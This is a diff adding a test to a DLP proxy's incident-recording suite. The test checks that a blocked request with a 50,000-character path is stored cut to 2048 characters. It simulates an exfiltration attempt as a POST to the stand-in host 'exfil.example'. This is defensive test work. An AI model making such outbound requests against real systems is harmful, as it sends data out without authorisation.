@@ -82,6 +82,18 @@ describe('incidents in one process', () => {
     expect(size).toBeGreaterThan(0);
   });
 
+  it('bounds what a hostile client controls: a 50,000-character path is stored cut, never whole', async () => {
+    const p = await start({ dir: tempDir('dlp-proxy-incidents-'), batchMs: 20 });
+    const longPath = `/${'a'.repeat(50_000)}`;
+    const reply = await proxyRequest(p.port, `http://exfil.example${longPath}`, { method: 'POST', body: 'x' });
+    expect(reply.status).toBe(403);
+    await p.app.incidentRecorder!.flush();
+    const record = (await p.app.incidents!.get(String(reply.headers['x-dlp-incident'])))!;
+    expect(record.path).toHaveLength(2048);
+    expect(record.path.endsWith('…')).toBe(true);
+    expect(longPath.startsWith(record.path.slice(0, -1))).toBe(true);
+  });
+
   it('incidents.enabled: false records nothing and opens no file', async () => {
     const dir = path.join(tempDir('dlp-proxy-incidents-'), 'off');
     const p = await start({ enabled: false, dir });
